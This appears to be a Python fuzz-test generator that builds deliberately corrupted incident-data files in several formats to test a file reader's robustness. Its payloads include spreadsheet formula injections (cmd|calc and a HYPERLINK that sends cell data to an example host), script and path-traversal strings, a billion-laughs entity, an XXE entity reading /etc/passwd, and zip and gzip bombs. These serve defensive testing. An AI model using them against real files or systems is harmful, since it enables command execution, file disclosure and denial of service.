"""Files shaped like real ones, and spoilt: from a seed, small, in every format that reading takes."""

from __future__ import annotations

import csv
import gzip
import io
import random
import re
import zipfile
from dataclasses import dataclass, field
from typing import TYPE_CHECKING

import polars as pl

from tests.area.books import ods, xlsx

if TYPE_CHECKING:
    from collections.abc import Callable

COLUMNS = (
    "incident_id",
    "service_id",
    "received_at",
    "latitude",
    "longitude",
    "place_precision",
    "category",
    "other_service_requested",
)
ROWS = 12
FORMULAS = (
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1)',
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\uff1d1+1",
    "\x00=1+1",
    "-1",
    "+44",
    "@x",
)
_BAD = {
    "received_at": (
        "31/02/2025",
        "2025-13-01 00:00",
        "2025-02-30 10:00:00",
        "noon",
        "0",
        "9" * 40,
        "2025-01-01T25:00:00Z",
    ),
    "latitude": ("north", "1e999", "nan", "inf", "51,5", "12 34", "--1", "1_000", "91", "-0.0.1"),
    "longitude": ("west", "1e999", "181", "٣", "0x1F"),
    "service_id": ("polcie", "POLICE", "p\u200bolice", "\x01"),
    "place_precision": ("roughly", "EXACT", "50"),
}
"""What a cell of a column cannot hold, so that its row must have a query."""
_ODD = (
    "",
    " ",
    '"',
    '""',
    "'",
    ",",
    ";",
    "a\nb",
    "a\r\nb",
    "\r",
    "\x00",
    "a\x00b",
    "\x1b[31m",
    "\ufeff",
    "\u202egnp.exe",
    "é" * 50,
    "\U0001f692",
    "Ĳ\u0301",
    "NULL",
    "n/a",
    "-",
    "#REF!",
    "<script>alert(1)</script>",
    "&lol9;",
    "../../etc/passwd",
    "{}",
    "{x}",
    "%s",
    "$1",
    "\\",
    "2025-03-30 01:30:00",
    "2025-10-26 01:30:00",
    "9" * 400,
)

FORMATS = ("csv", "tsv", "csv.gz", "zip", "xlsx", "ods", "parquet")
STUDY_FORMATS = ("csv", "xlsx", "ods", "parquet")


@dataclass
class Case:
    """A spoilt file: where it goes, what it is called, and what is known to be so of it."""

    seed: int
    target: str
    """``study``: a table of one; ``extract``: read through a mapping."""
    form: str
    level: str
    content: bytes = b""
    rows: int | None = None
    """The rows that it must be counted to have; None where the spoiling may have changed them."""
    bad: set[int] = field(default_factory=set)
    """The rows that must have a query, as a spreadsheet numbers them."""


def case(seed: int) -> Case:
    """Make a case: of six in ten the cells are spoilt, of the others the columns, the text, the bytes or the wrapping."""
    chance = random.Random(f"fuzz {seed}")
    target = chance.choice(("study", "extract"))
    form = chance.choice(STUDY_FORMATS if target == "study" else FORMATS)
    level = chance.choices(("cells", "columns", "text", "bytes", "wrapping"), (62, 12, 10, 12, 4))[0]
    if level == "text" and form in ("xlsx", "ods", "parquet"):
        level = "bytes"
    made = Case(seed, target, form, level)
    table = [list(COLUMNS), *([*_row(number, chance)] for number in range(ROWS))]
    made.rows = ROWS
    if level == "cells":
        _spoil_cells(table, made, chance)
    elif level == "columns":
        made.rows = None
        _spoil_columns(table, chance)
    made.content = encoded(form, table)
    if level == "text":
        made.rows = None
        made.content = _spoil_text(made.content, form, chance)
    elif level == "bytes":
        made.rows = None
        made.content = _spoil_bytes(made.content, chance)
    elif level == "wrapping":
        made.rows = None
        made.content = _spoil_wrapping(table, made, chance)
    return made


def _row(number: int, chance: random.Random) -> list[str]:
    return [
        f"I{number:04}",
        chance.choice(("police", "fire")),
        f"2025-{chance.randint(1, 12):02}-{chance.randint(1, 28):02} {chance.randint(2, 23):02}:{chance.randint(0, 59):02}:00",
        f"{51 + chance.random():.5f}",
        f"{-chance.random():.5f}",
        chance.choice(("exact", "100m", "")),
        chance.choice(("Fire", "Fall", "Café, with smoke", 'the "Crown"')),
        chance.choice(("none", "police", "")),
    ]


def _spoil_cells(table: list[list[str]], made: Case, chance: random.Random) -> None:
    """Put in some rows what no cell should hold; never in the identifier of most of them."""
    for number in chance.sample(range(1, ROWS + 1), chance.randint(1, 4)):
        way = chance.choice(("bad", "bad", "odd", "formula", "same id", "long"))
        if way == "bad":
            name = chance.choice(list(_BAD))
            cell = chance.choice(_BAD[name])
            table[number][COLUMNS.index(name)] = cell
            made.bad.add(number + 1)
        elif way == "odd":
            table[number][chance.randrange(len(COLUMNS))] = chance.choice(_ODD)
        elif way == "formula":
            table[number][chance.randrange(len(COLUMNS))] = chance.choice(FORMULAS)
        elif way == "same id" and number > 1:
            table[number][0] = table[number - 1][0]
        elif way == "long":
            size = 2**21 if chance.random() < 0.03 and made.form != "xlsx" else 2 ** chance.randint(6, 14)
            table[number][chance.choice((0, 6, 7))] = chance.choice("x, é") * size


def _spoil_columns(table: list[list[str]], chance: random.Random) -> None:
    for _ in range(chance.randint(1, 2)):
        at = chance.randrange(len(table[0]))
        match chance.choice(("drop", "double", "rename", "case", "swap", "blank", "many")):
            case "drop" if len(table[0]) > 1:
                for row in table:
                    del row[at]
            case "double":
                for row in table:
                    row.insert(at, row[at])
            case "rename":
                table[0][at] = chance.choice(
                    (*_ODD, *FORMULAS, "__row", "__copy", "_duplicated_0", "column 1", "x" * 5000)
                )
            case "case":
                table[0][at] = table[0][at].upper()
            case "swap":
                other = chance.randrange(len(table[0]))
                for row in table:
                    row[at], row[other] = row[other], row[at]
            case "blank":
                for row in table[1:]:
                    row[at] = ""
            case _:
                more = chance.choice((1, 40))
                for number, row in enumerate(table):
                    row.extend(("" if number else f"c{each}") for each in range(more))


def _spoil_text(content: bytes, form: str, chance: random.Random) -> bytes:
    """Spoil lines, quotes, line ends or the way in which characters are written."""
    packed = form in ("csv.gz", "zip")
    text = (
        gzip.decompress(content) if form == "csv.gz" else _only(content) if form == "zip" else content
    ).decode()
    lines = text.splitlines(keepends=True)
    at = chance.randrange(len(lines))
    spoilt = text.encode()
    match chance.choice(("encoding", "quote", "ends", "short", "long", "twice", "blank", "separator", "cut")):
        case "encoding":
            codec = chance.choice(
                ("utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "cp1252", "latin-1", "cp437")
            )
            spoilt = text.encode(codec, "replace")
        case "quote":
            where = chance.randrange(len(text))
            spoilt = (text[:where] + '"' + text[where:]).encode()
        case "ends":
            spoilt = text.replace("\n", chance.choice(("\r\n", "\r", "\n\n", "\n\r"))).encode()
        case "short":
            lines[at] = lines[at].partition(",")[0] + "\n"
            spoilt = "".join(lines).encode()
        case "long":
            lines[at] = lines[at].rstrip("\n") + ",1" * chance.choice((1, 3, 500)) + "\n"
            spoilt = "".join(lines).encode()
        case "twice":
            spoilt = "".join([*lines[:at], lines[0], *lines[at:]]).encode()
        case "blank":
            spoilt = "".join([*lines[:at], "\n" * chance.randint(1, 3), *lines[at:]]).encode()
        case "separator":
            spoilt = text.replace(",", chance.choice((";", "|", "\t", "^"))).encode()
        case _:
            spoilt = text[: chance.randrange(len(text))].encode()
    if packed:
        return gzip.compress(spoilt, 1, mtime=0) if form == "csv.gz" else _zipped({"incidents.csv": spoilt})
    return spoilt


def _spoil_bytes(content: bytes, chance: random.Random) -> bytes:
    """Flip, cut, put in or take out bytes."""
    spoilt = bytearray(content)
    way = chance.choice(("flip", "flip", "cut", "insert", "delete", "nul", "front"))
    for _ in range(chance.choice((1, 1, 2, 8))):
        at = chance.randrange(max(len(spoilt), 1))
        match way:
            case "flip" if spoilt:
                spoilt[at] ^= 1 << chance.randrange(8)
            case "cut":
                del spoilt[at:]
            case "insert":
                spoilt[at:at] = chance.randbytes(chance.randint(1, 8))
            case "delete":
                del spoilt[at : at + chance.randint(1, 8)]
            case "nul":
                spoilt[at:at] = bytes(chance.randint(1, 4))
            case "front":
                spoilt[:0] = chance.choice(
                    (b"PK\x03\x04", b"\x1f\x8b", b"PAR1", b"\xff\xfe", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")
                )
    return bytes(spoilt)


_LAUGHS = "".join(f'<!ENTITY lol{each} "{f"&lol{each - 1};" * 10 if each else "lol"}">' for each in range(10))


def _spoil_wrapping(table: list[list[str]], made: Case, chance: random.Random) -> bytes:
    """Make bombs, entities that expand without end, and wrappings that lie."""
    if made.form not in ("xlsx", "ods"):
        return _spoil_packing(table, chance)
    parts = _parts(made.content)
    name = (
        "content.xml"
        if made.form == "ods"
        else chance.choice(("xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"))
    )
    way = chance.choice(("laughs", "external", "bomb", "missing", "empty", "far"))
    xml = parts[name].decode()
    if way in ("laughs", "external"):
        inside = _LAUGHS if way == "laughs" else '<!ENTITY lol9 SYSTEM "file:///etc/passwd">'
        start = xml.index("?>") + 2
        xml = f"{xml[:start]}<!DOCTYPE x [{inside}]>{xml[start:].replace('I0003', '&lol9;').replace('police', '&lol9;')}"
        parts[name] = xml.encode()
    elif way == "bomb":
        parts[name] = xml.encode() + b" " * 80_000_000
    elif way == "missing":
        del parts[name]
    elif way == "empty":
        parts[name] = b""
    else:
        far = '<table:table-row table:number-rows-repeated="1048576"><table:table-cell office:value-type="string" '
        far += 'table:number-columns-repeated="16384"><text:p>x</text:p></table:table-cell></table:table-row></table:table>'
        xml = xml.replace("</table:table>", far).replace(
            "</sheetData>", '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
        )
        parts[name] = xml.encode()
    return _zipped(parts)


def _spoil_packing(table: list[list[str]], chance: random.Random) -> bytes:
    """Pack a table again and again, with others, under a name that lies, or with something behind it."""
    others = (*(encoded(form, table) for form in ("parquet", "xlsx", "ods")), b"", b"\n", b"\0" * 100)
    text = encoded("csv", table)
    match chance.choice(("bomb", "nested", "many", "none", "lies", "name", "trailing")):
        case "bomb":
            spoilt = (
                _zipped({"incidents.csv": bytes(80_000_000)})
                if chance.random() < 0.5
                else gzip.compress(bytes(80_000_000), 1, mtime=0)
            )
        case "nested":
            for _ in range(chance.randint(1, 6)):
                text = gzip.compress(text, 1, mtime=0)
            spoilt = text
        case "many":
            spoilt = _zipped({"a.csv": text, "b.csv": text})
        case "none":
            spoilt = _zipped({})
        case "lies":
            spoilt = chance.choice(others)
        case "name":
            spoilt = _zipped(
                {chance.choice(("../../x.csv", "/etc/x.csv", "x" * 300 + ".csv", "a\\b.csv")): text}
            )
        case _:
            spoilt = gzip.compress(text, 1, mtime=0) + chance.choice(
                (b"\0" * 100, b"more", gzip.compress(b"more", 1, mtime=0))
            )
    return spoilt


def encoded(form: str, table: list[list[str]]) -> bytes:
    """Write a table in a format, as its programs write it."""
    writers: dict[str, Callable[[list[list[str]]], bytes]] = {
        "csv": _csv,
        "tsv": lambda rows: _csv(rows, "\t"),
        "csv.gz": lambda rows: gzip.compress(_csv(rows), 1, mtime=0),
        "zip": lambda rows: _zipped({"incidents.csv": _csv(rows)}),
        "xlsx": lambda rows: _undated(
            xlsx({"Sheet1": [[_shown(cell)[:32_767] for cell in row] for row in rows]})
        ),
        "ods": lambda rows: _undated(ods({"Sheet1": [[_shown(cell) for cell in row] for row in rows]})),
        "parquet": _parquet,
    }
    return writers[form](table)


def _shown(cell: str) -> str:
    """Leave out what XML cannot hold: no program could have written it."""
    return "".join(each for each in cell if each in "\t\n\r" or each >= " ")


def _csv(table: list[list[str]], separator: str = ",") -> bytes:
    stream = io.StringIO()
    csv.writer(stream, delimiter=separator, lineterminator="\n").writerows(table)
    return stream.getvalue().encode()


def _parquet(table: list[list[str]]) -> bytes:
    names: list[str] = []
    for name in table[0]:
        names.append(name if name not in names else f"{name} {len(names)}")
    stream = io.BytesIO()
    columns = {name: [row[at] or None for row in table[1:]] for at, name in enumerate(names)}
    pl.DataFrame(columns, schema=dict.fromkeys(names, pl.String)).write_parquet(stream)
    return stream.getvalue()


def _zipped(parts: dict[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as book:
        for name, content in parts.items():
            book.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED, 1)
    return stream.getvalue()


def _undated(content: bytes) -> bytes:
    """Take out when a workbook was made, so that the same seed gives the same bytes."""
    parts = _parts(content)
    if "docProps/core.xml" in parts:
        made = re.compile(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ")
        parts["docProps/core.xml"] = made.sub(b"2025-01-01T00:00:00Z", parts["docProps/core.xml"])
    return _zipped(parts)


def _parts(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        return {name: book.read(name) for name in book.namelist()}


def _only(content: bytes) -> bytes:
    return next(iter(_parts(content).values()))
